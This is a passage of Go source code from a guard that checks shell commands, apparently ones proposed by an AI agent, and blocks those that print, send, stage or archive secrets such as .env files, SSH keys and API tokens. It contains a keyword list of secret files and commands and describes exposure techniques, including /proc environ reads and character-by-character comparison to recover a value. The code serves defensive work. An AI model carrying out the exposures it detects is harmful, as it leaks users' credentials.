		by = c.Base()
	}
	switch e.Class {
	case "env":
		if j.countedOnly(i, c) || j.grepsNames(i, c) {
			return nil
		}
		return &hit{"env-dump", "`" + by + "` prints the whole environment, where API keys and tokens live",
			"Print only the variables the task needs by name (e.g. `printenv HOME PATH`), or test for a secret without showing it: `test -n \"$API_KEY\" && echo set`."}
	case "credential":
		if j.consumedAsConfig(i, c) != "" {
			return nil // piped into a program that logs in with it
		}
		what := e.Text
		if what == "" {
			what = by
		}
		return &hit{"credential-print", "`" + what + "` prints a live credential",
			"Let the tool use the credential itself (most read it from their own config), or ask the user for what the task needs."}
	case "var":
		return j.exposeVar(i, c, e, effs, by)
	case "login":
		return j.g.loginJudged(e, by, j.s.MaySet)
	}
	return nil
}

func (j *cmdJudge) exposeVar(i int, c *shell.Command, e spec.Effect, effs []spec.Effect, by string) *hit {
	name := e.Text
	what := ""
	if p, ok := strings.CutPrefix(name, "source:"); ok {
		r, w, s := j.pathHit(spec.Path{Arg: p, Abs: paths.Clean(p)}, false)
		if r == "" {
			return nil
		}
		what = "a value read from " + s + " (" + w + ")"
	} else if v, ok := strings.CutPrefix(name, "indirect:"); ok {
		if !strings.HasPrefix(v, "$") {
			v = "${!" + v + "}"
		}
		what = v + ", a variable whose name is only known when the line runs (over the environment, or after a secret file was sourced, it may be any secret)"
	} else if j.g.secretVar(name) {
		what = "the secret variable $" + name
	} else if src := j.sourcedSets(i, name); src != "" {
		what = "$" + name + ", which " + src + " sets (a secret file the line sources)"
	} else if src := j.unreadSource(i); src != "" {
		what = "$" + name + ", which may come from " + src + ", a secret file the line sources that the guard could not read"
	} else {
		return nil
	}
	if j.intoCredentialFile(i, c, name) {
		return nil
	}
	if j.consumedAsConfig(i, c) != "" {
		if h := j.stdinLogin(i, name); h != nil {
			return h
		}
		return nil
	}
	if strings.HasPrefix(by, "a comparison") {
		return &hit{"secret-var-compare", "a comparison of " + what + " with a value answers whether it starts (or ends, or is) so: a loop of such tests recovers the value a character at a time",
			"Test only that it is set (`test -n \"$" + varName(name) + "\"`), or let the program that needs it check it."}
	}
	sends := false
	for _, o := range effs {
		sends = sends || o.Kind == spec.Send
	}
	if sends {
		return &hit{"secret-var-send", "`" + by + "` would send " + what,
			"Use it where it is needed without showing it (e.g. in an Authorization header to its API), or test that it is set: `test -n \"$" + varName(name) + "\" && echo set`."}
	}
	return &hit{"secret-var-print", "`" + by + "` would print " + what,
		"Test that it is set without printing it: `test -n \"$" + varName(name) + "\" && echo set`, or use it where it is needed without showing it."}
}

// sourcedSets names the secret file an earlier command of the line sources that assigns
// name (`source .env; declare -p DB_URL`, or DB_URL read by python after it): a variable is as
// secret as the file that set it, whatever its name says. A file that could not be read is
// unreadSource's.
func (j *cmdJudge) sourcedSets(i int, name string) string {
	srcs := j.sources()
	if len(srcs) == 0 || j.ev.Root == "" {
		return ""
	}
	for k := range srcs {
		src := &srcs[k]
		e := src.e
		if src.k >= i || e.Path.Dyn || e.Remote || e.Path.Abs == "" {
			continue
		}
		if text, ok := j.sourceText(src); ok && assigns(text, name) {
			return src.shown
		}
	}
	return ""
}

// sourceText is what a sourced secret file holds, read once for the line (as the front end
// reads it: inside the project, bounded): a script prints many variables, and each asked
// every file again, resolving the root and the file each time.
func (j *cmdJudge) sourceText(src *secretSource) (string, bool) {
	if !src.read {
		src.read = true
		if j.readRoot == nil {
			j.readRoot = shell.RootReader(j.ev.Root, j.ev.Home)
		}
		if b, err := j.readRoot(src.e.Path.Abs); err == nil {
			src.text, src.readOK = string(b), true
		}
	}
	return src.text, src.readOK
}

// assigns reports whether an environment file's text sets name: a line NAME=..., also after
// `export`, `declare -x`, `readonly` or `set -a`'s plain form.
func assigns(text, name string) bool {
	for line := range strings.SplitSeq(text, "\n") {
		line = strings.TrimSpace(line)
		for _, kw := range []string{"export ", "declare -x ", "declare ", "readonly ", "local "} {
			line = strings.TrimSpace(strings.TrimPrefix(line, kw))
		}
		if n, _, ok := strings.Cut(line, "="); ok && strings.TrimSpace(n) == name {
			return true
		}
	}
	return false
}

// unreadSource names a secret file an earlier command of the line sources that the front end
// could not read (outside the project, or absent): what it sets is unknown, so any variable
// printed after it may be one of its values.
func (j *cmdJudge) unreadSource(i int) string {
	for _, src := range j.sources() {
		e := src.e
		if src.k >= i {
			break
		}
		if e.Path.Abs != "" && !e.Remote && paths.Within(e.Path.Abs, j.ev.Root) && isFile(e.Path.Abs) {
			continue // read: its values carry their origin
		}
		return src.shown
	}
	return ""
}

// loaded reports an environment file printed into a command substitution whose words an
// assignment builtin takes (export $(cat .env | xargs), declare -x $(grep -v '^#' .env)): the
// values go into the shell's environment, not to the terminal, as with source, and the
// variables they set are followed as sourced ones. Any command of the substitution that
// writes elsewhere (>&2, tee, dd of=/dev/stderr, code that may print to stderr) shows them,
// and eval runs them as code: neither is a load.
func (j *cmdJudge) loaded(i int, e *spec.Effect) bool {
	if e.Kind != spec.Read || e.Class != "show" || e.Path.Dyn || e.Path.Abs == "" {
		return false
	}
	if r, _ := secretFile(e.Path.Abs, j.ev.Home); r != "dotenv" {
		return false
	}
	c := j.s.Commands[i]
	at := slices.Index(c.Via, "$()")
	if at < 0 {
		return false
	}
	level := c.Via[:at]
	for k := i; k < len(j.s.Commands); k++ {
		o := j.s.Commands[k]
		if len(o.Via) > at && slices.Equal(o.Via[:at], level) && o.Via[at] == "$()" {
			if slices.ContainsFunc(o.Redirects, func(r shell.Redirect) bool { return strings.HasPrefix(r.Op, ">") || r.Op == "&>" }) ||
				slices.ContainsFunc(o.Effects(), showsElsewhere) {
				return false
			}
			continue
		}
		if !slices.Equal(o.Via, level) {
			return false
		}
		switch o.Base() {
		case "export", "declare", "typeset", "readonly", "local":
			return !functionNames(o)
		}
		return false
	}
	return false
}

// functionNames reports an assignment builtin told that its words name functions, as the
// command model reads its options (export -f, -fn, -nf, declare -fx, typeset -F, readonly -af,
// -p -f; a "--" or the first name ends the options): no variable is set, and export -f and
// readonly -f print each word they are given (a .env's NAME=value lines) in a "not a function"
// error, declare -p -f in a "not found" one. declare's +f, which sets variables as usual, is no
// such option. An option word whose value is unknown (-$x, or a variable's value where options
// may stand: export $OPTS $(cat .env)) may be -f, so it counts as one: what it loads is then
// judged as shown, which costs a block of a line nobody writes to load a file (-x$o too).
func functionNames(c *shell.Command) bool {
	call := c.Call()
	for _, o := range call.P.Opts {
		if o.At >= len(call.Words) {
			continue
		}
		w := call.Words[o.At]
		if strings.HasPrefix(lead(w), "-") && (w.Dyn || o.Name == "f" || o.Name == "F") {
			return true // -f, or an option word whose unknown rest may hold one (-x$o)
		}
	}
	if len(call.P.Operands) == 0 || call.P.Operands[0] >= len(call.Words) {
		return false
	}
	w := call.Words[call.P.Operands[0]]
	return w.Dyn && (strings.HasPrefix(w.Lead, "-") || w.Lead == "" && len(w.From) > 0)
}

// lead is the known start of a word.
func lead(w spec.Word) string {
	if w.Dyn {
		return w.Lead
	}
	return w.S
}

// showsElsewhere: an effect by which a command inside a load's substitution may put what it
// reads somewhere other than its standard output, as the command model says: a write (tee or
// dd to /dev/stderr, sed's w, an unknown program), code that runs (perl, python, awk may print
// to stderr), a send or an exposure.
func showsElsewhere(e spec.Effect) bool {
	switch e.Kind {
	case spec.Write, spec.Exec, spec.Send, spec.Expose:
		return true
	}
	return false
}

// sourced reports the read of a file the shell itself runs (source, .): what it sets stays in
// the line's shell.
func sourced(e *spec.Effect) bool {
	return e.Kind == spec.Read && e.Class == "code" && (e.By == "source" || e.By == ".")
}

func isFile(p string) bool {
	st, err := os.Stat(p)
	return err == nil && st.Mode().IsRegular()
}

func isDir(p string) bool {
	st, err := os.Stat(p)
	return err == nil && st.IsDir()
}

func varName(n string) string {
	if strings.HasPrefix(n, "source:") {
		return "NAME"
	}
	return n
}

func altFor(class string) string {
	switch class {
	case "copy", "move", "link", "hardlink":
		return "A copy under another name is one step from being read. Use the file where it is (point the program at it), or ask the user to make the copy."
	case "send":
		return "Sending a secret file off the machine is what this guard exists to stop. Send only what the task needs, or ask the user to do it."
	case "mount":
		return "Pass the values the container needs with --env-file or -e NAME, or ask the user to mount it."
	case "archive":
		return "Leave the secret file out of the archive (tar --exclude, zip -x), or ask the user to pack it."
	case "stage":
		return stageAlt("")
	}
	return "Whatever a command prints goes into the conversation. Use the file without showing it (e.g. `--env-file`, `ssh -i`), check it exists with `ls`/`test -f`, or ask the user for the one value the task needs."
}

// listedAlt is the advice for reading what a listing names: leave the secret file out of the
// listing, the lister's own way.
func listedAlt(lister, shown string) string {
	return "List only what the task needs, leaving the secret files out" + exclusionHint(lister, exclusionFor(shown)) + ". " + altFor("show")
}

// exclusionHints are how each searcher, lister and packer leaves a file out, for a reason:
// "%s" is the glob. Examples: rg gives " (rg -g '!.env*')".
var exclusionHints = map[string]string{
	"rg": "rg -g '!%s'", "grep": "grep --exclude='%s'", "egrep": "grep --exclude='%s'", "fgrep": "grep --exclude='%s'", "rgrep": "grep --exclude='%s'",
	"ugrep": "ugrep -g '!%s'", "ug": "ugrep -g '!%s'", "git": "git grep PATTERN -- ':(glob,exclude)**/%s'", "ag": "ag --ignore '%s'", "ack": "ack --ignore-file=match:%s",
	"fd": "fd -E '%s'", "fdfind": "fd -E '%s'", "find": "find . -type f -not -name '%s'", "zip": "zip -r - . -x '%s'", "tar": "tar --exclude='%s'",
	"ls": "ls -A -I '%s'",
}

// exclusionHint is the way the command named name leaves glob out, in parentheses; the
// common ones when the guard does not know the command's.
func exclusionHint(name, glob string) string {
	if h, ok := exclusionHints[name]; ok {
		return " (" + strings.ReplaceAll(h, "%s", glob) + ")"
	}
	return " (rg -g '!" + glob + "', grep --exclude='" + glob + "', git grep PATTERN -- " + gitExclude(glob) + ")"
}

// gitExclude is the git pathspec that leaves glob out at any depth: git matches a plain
// exclusion (':!.env*') against the whole path from the current directory, so it would leave
// sub/.env in; glob magic's '**/' reaches every directory.
func gitExclude(glob string) string {
	return "':(glob,exclude)**/" + glob + "'"
}

// gitExcludes is gitExclude of each glob, as separate pathspecs.
func gitExcludes(gs []string) string {
	out := make([]string, len(gs))
	for i, g := range gs {
		out[i] = gitExclude(g)
	}
	return strings.Join(out, " ")
}

// stageAlt is the advice for staging a secret file: what is staged is one commit and one push
// from leaving the machine, and stays in history after. The file belongs in .gitignore, which
// also keeps every later `git add -A` off it; glob is the pattern to add ("" for the file's).
func stageAlt(glob string) string {
	if glob == "" {
		glob = ".env*"
	}
	return "A staged secret is one commit and one push from leaving the machine, and stays in the history after. " +
		"Add it to .gitignore (`echo '" + glob + "' >> .gitignore`) and stage again, or stage only what the task needs (`git add -- src`, `git add -A -- " + gitExclude(glob) + "`)."
}

// pathHit judges the file a path names: its name, what it resolves to, what a glob in it
// matches. A path on another machine, or one whose directory is unknown, is judged by its
// name only.
func (j *cmdJudge) pathHit(p spec.Path, remote bool) (rule, why, shown string) {
	if p.Dyn {
		if r, w := credentialVarPath(p.Arg); r != "" {
			return r, w, p.Arg
		}
		// The literal end of the name, after its last unknown part ("$DIR/.env",
		// "~deploy/.ssh/id_rsa"), names the file whatever the unknown part turns out to be.
		if tail := literalTail(p.Arg); tail != "" {
			if r, w, _ := j.g.absVerdict(paths.Join("/", tail), j.ev, false); r != "" {
				return r, w, p.Arg
			}
			// The known start and end together (/proc/$$/environ, /proc/$(pgrep node)/environ):
			// whatever the unknown part is, the name has that shape.
			lead := p.Lead
			if i := strings.IndexAny(p.Arg, "$`"); lead == "" && i > 0 {
				lead = p.Arg[:i] // a redirect's target carries no lead of its own
			}
			if filepath.IsAbs(lead) {
				if r, w := secretFile(paths.Clean(lead+"0"+tail), j.ev.Home); r != "" {
					return r, w, p.Arg
				}
			}
		}
		if p.Lead == "" {
			return "", "", ""
		}
		// The known start of the name, and anything after it.
		lead := p.Lead + "*"
		if strings.HasSuffix(p.Lead, "/") {
			lead = p.Lead
		}
		abs := paths.Clean(paths.Abs(lead, p.Cwd, j.ev.Home))
		if p.Cwd == "" && !filepath.IsAbs(abs) {
			abs = paths.Join("/", abs)
			remote = true
		}
		return j.g.absVerdict(abs, j.ev, !remote)
	}
	if p.Abs == "" {
		// Relative to a directory nobody knows (another machine's, or after `cd "$X"`):
		// judged by its name, and named as written.
		r, w, _ := j.g.namedVerdict(paths.Join("/", p.Arg), j.ev, false, p.Lit)
		return r, w, p.Arg
	}
	return j.g.namedVerdict(p.Abs, j.ev, !remote, p.Lit)
}

// literalTail is the part of a dynamic word after its last expansion, when that part holds a
// slash or is the whole word (~user/...): "/.env" of "$DIR/.env"; "" for "$(ls .env*)" or "$F".
func literalTail(arg string) string {
	i := strings.LastIndexAny(arg, "$`)}")
	j := i + 1
	if i >= 0 && arg[i] == '$' {
		for j < len(arg) && (arg[j] == '_' || 'a' <= arg[j] && arg[j] <= 'z' || 'A' <= arg[j] && arg[j] <= 'Z' || '0' <= arg[j] && arg[j] <= '9') {
			j++
		}
	}
	tail := arg[j:]
	if i >= 0 && !strings.HasPrefix(tail, "/") || paths.HasMeta(tail) {
		return ""
	}
	return tail
}

// tooLargeHit blocks a command that opens every file of a tree too large or too deep to look
// through for secret files: what ran out, and where.
func tooLargeHit(what, ranOut, where string) *hit {
	return &hit{tooLarge, what + ", a tree too large for the guard to check for secret files (" + ranOut + ", at " + where + ")",
		"Narrow the search to what the task needs: name the directories (`grep -r TODO src lib`), leave out the big ones " +
			"(`grep -r --exclude-dir=vendor --exclude-dir=build TODO .`, `rg -g '!vendor/' TODO`), or limit its depth (`--max-depth`)."}
}

// secretMention is the fallback for a command that does not parse: does its raw text name a
// secret file or variable at all?
func secretMention(src string) bool {
	l := strings.ToLower(src)
	for _, s := range []string{".env", "id_rsa", "id_ed25519", ".aws", ".ssh", ".netrc", ".git-credentials", "printenv", "environ", "secret", "token", "password", ".pem", ".key"} {
		if strings.Contains(l, s) {
			return true
		}
	}
	return false
}
